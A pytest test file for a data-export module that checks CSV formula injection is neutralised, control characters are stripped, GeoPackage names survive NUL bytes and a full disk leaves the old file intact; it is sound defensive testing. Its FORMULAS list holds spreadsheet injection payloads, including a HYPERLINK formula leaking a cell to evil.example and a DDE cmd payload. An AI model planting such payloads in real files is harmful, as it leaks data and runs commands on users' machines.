"""Hostile text in exported candidates (flows.exports, flows.frames): no CSV cell runs as a
formula, no control character reaches a file, no name is cut at a NUL in a GeoPackage, and a
full disk keeps the previous file."""

from __future__ import annotations

import csv
import errno
import io
import os
import re
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pyogrio
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows import exports
from flows._errors import CaseWriteError
from flows.frames import (
    FORMULA_STARTS,
    safe_text_for_csv,
    strip_control_characters,
    unescape_csv_text,
)
from flows.model import Case

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _candidates(case: Case, text: list[str]) -> pd.DataFrame:
    """One candidate per text, from the first site to the second, with numbers beside."""
    first, second = case.sites["site_id"].iloc[:2]
    n = len(text)
    return pd.DataFrame(
        {
            "supply_site": [first] * n,
            "demand_site": [second] * n,
            "explanation": pd.array(text, dtype="string"),
            "resource": pd.Categorical(text),
            "net_gain_eur": [-1_000.5] * n,  # a negative number stays a number
        }
    )


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_that_would_run_as_formulas_are_prefixed_with_a_quote(
    mini_case: Case, tmp_path: Path
) -> None:
    notes: list[str] = []
    path = exports.write_candidates(
        _candidates(mini_case, [*FORMULAS, "plain text"]),
        mini_case,
        tmp_path / "c.csv",
        notes=notes,
    )
    rows = _csv_rows(path)
    assert len(rows) == len(FORMULAS) + 1  # the carriage return split no row
    # The carriage return inside a cell is written as a line feed, which CSV writers quote.
    expected = [*(f"'{f}".replace("\r", "\n") for f in FORMULAS), "plain text"]
    assert [r["explanation"] for r in rows] == expected
    assert [r["resource"] for r in rows] == expected
    assert {r["net_gain_eur"] for r in rows} == {"-1000.5"}
    assert notes == [
        (
            "c.csv: 12 text cells starting with =, +, -, @, a tab or a line break were "
            "prefixed with ' so that spreadsheets show them as text instead of running them "
            "as formulas (6 in explanation, 6 in resource)"
        ),
        (
            "c.csv: 2 line breaks written as a carriage return alone (or with a line feed) "
            "were written as a line feed, which keeps the row whole (1 in explanation, "
            "1 in resource)"
        ),
    ]


def test_csv_loses_control_characters_and_says_how_many(mini_case: Case, tmp_path: Path) -> None:
    notes: list[str] = []
    text = ["bell\x07here", "nul\x00and\x1bescape", "line\nbreak\tand tab kept", "\x00=1"]
    path = exports.write_candidates(
        _candidates(mini_case, text), mini_case, tmp_path / "c.csv", notes=notes
    )
    explanations = [r["explanation"] for r in _csv_rows(path)]
    assert explanations == ["bellhere", "nulandescape", "line\nbreak\tand tab kept", "'=1"]
    assert notes[0] == (
        "c.csv: removed 8 control characters from the text (4 in explanation, 4 in resource)"
    )
    assert "2 text cells" in notes[1]


def test_gpkg_names_are_not_cut_at_a_nul(mini_case: Case, tmp_path: Path) -> None:
    notes: list[str] = []
    path = exports.write_candidates(
        _candidates(mini_case, ["Evil\x00 Plant", "=kept as it is"]),
        mini_case,
        tmp_path / "c.gpkg",
        notes=notes,
    )
    lines = pyogrio.read_dataframe(path, layer="candidates")
    assert lines["explanation"].tolist() == ["Evil Plant", "=kept as it is"]
    assert lines["resource"].tolist() == ["Evil Plant", "=kept as it is"]
    assert notes == [
        "c.gpkg: removed 2 control characters from the text (1 in explanation, 1 in resource)"
    ]


def test_gpkg_lines_join_sites_whose_ids_hold_control_characters(
    mini_case: Case, tmp_path: Path
) -> None:
    sites = mini_case.sites.copy()
    sites.loc[sites.index[0], "site_id"] = "pow\x00er"
    case = Case(sites=sites, flows=mini_case.flows)
    candidates = _candidates(case, ["x"])
    path = exports.write_candidates(candidates, case, tmp_path / "c.gpkg")
    lines = pyogrio.read_dataframe(path, layer="candidates")
    assert lines["supply_site"].tolist() == ["power"]
    assert lines.geometry.iloc[0].length > 0


def test_parquet_keeps_the_text_exactly(mini_case: Case, tmp_path: Path) -> None:
    text = ["=1+1", "nul\x00kept"]
    path = exports.write_candidates(_candidates(mini_case, text), mini_case, tmp_path / "c.parquet")
    assert pq.read_table(path).column("explanation").to_pylist() == text


def test_full_disk_keeps_the_previous_export(
    mini_case: Case, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "c.gpkg"
    exports.write_candidates(_candidates(mini_case, ["old"]), mini_case, target)
    before = target.read_bytes()

    def disk_full(*_args: object, **_kwargs: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(pyogrio, "write_arrow", disk_full)
    with pytest.raises(CaseWriteError, match=r"^the disk is full: c\.gpkg") as caught:
        exports.write_candidates(_candidates(mini_case, ["new"]), mini_case, target)
    assert str(caught.value).endswith("; the previous file is unchanged")
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["c.gpkg"]


def test_safe_text_leaves_a_clean_frame_alone() -> None:
    frame = pd.DataFrame({"name": ["a", None], "value": [-1.0, 2.0]})
    safe, notes = safe_text_for_csv(frame)
    assert safe is frame
    assert notes == []
    clean, notes = strip_control_characters(frame)
    assert clean is frame
    assert notes == []


def test_unescape_gives_back_quoted_text_and_leaves_the_rest() -> None:
    written = pd.Series(["'=1+1", "''=1", "'plain", "it's", None, "'-3"], dtype="string")
    read = unescape_csv_text(written)
    assert read.tolist() == ["=1+1", "'=1", "'plain", "it's", pd.NA, "-3"]
    assert read.dtype == written.dtype
    plain = pd.Series(["a", "b"])
    assert unescape_csv_text(plain) is plain


def test_column_names_are_made_safe_too() -> None:
    frame = pd.DataFrame({"=cmd": ["a"], "na\x00me": ["b"]})
    safe, notes = safe_text_for_csv(frame)
    assert list(safe.columns) == ["'=cmd", "name"]
    assert notes == ["2 column names were cleaned the same way as the cells"]
    assert list(frame.columns) == ["=cmd", "na\x00me"]  # the caller's frame is untouched


def _normalised(text: str) -> str:
    """``text`` as safe_text_for_csv writes it before adding a quote."""
    return CONTROL.sub("", text).replace("\r\n", "\n").replace("\r", "\n")


_TEXT = st.builds(
    "".join,
    st.lists(
        st.one_of(
            st.sampled_from([*FORMULAS, "=", "+", "-", "@", "\t", "\r", "\n", "\x00", "'", ","]),
            st.characters(codec="utf-8", exclude_categories=["Cs"]),
        ),
        max_size=6,
    ),
)


@given(values=st.lists(st.one_of(st.none(), _TEXT), min_size=1, max_size=8))
def test_fuzz_no_csv_cell_runs_as_a_formula_or_holds_a_control_character(
    values: list[str | None],
) -> None:
    frame = pd.DataFrame({"text": pd.Series(values, dtype=object), "kind": pd.Categorical(values)})
    safe, notes = safe_text_for_csv(frame)
    written = safe.to_csv(index=False, lineterminator="\n")
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert len(rows) == len(values)
    for row, original in zip(rows, values, strict=True):
        for cell in row.values():
            assert not CONTROL.search(cell)
            assert "\r" not in cell
            assert not cell.startswith(FORMULA_STARTS)
            if original is None:
                continue
            expected = _normalised(original)
            if expected.lstrip("'").startswith(FORMULA_STARTS):
                expected = f"'{expected}"
            assert cell == expected
            # Reading SymbioMap's own file back gives the text exactly.
            assert unescape_csv_text(pd.Series([cell])).iloc[0] == _normalised(original)
    assert bool(notes) == any(
        v is not None
        and (
            CONTROL.search(v) is not None
            or "\r" in v
            or _normalised(v).lstrip("'").startswith(FORMULA_STARTS)
        )
        for v in values
    )


@given(values=st.lists(_TEXT, min_size=1, max_size=4))
def test_fuzz_gpkg_keeps_every_name_whole_but_its_control_characters(
    values: list[str], mini_case: Case, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("fuzz-gpkg")
    path = exports.write_candidates(_candidates(mini_case, values), mini_case, folder / "c.gpkg")
    lines = pyogrio.read_dataframe(path, layer="candidates")
    expected = [CONTROL.sub("", v) for v in values]
    # GDAL reads an empty text as missing in some versions: compare the text that is there.
    assert [v if isinstance(v, str) else "" for v in lines["explanation"]] == expected
    assert [v if isinstance(v, str) else "" for v in lines["resource"]] == expected
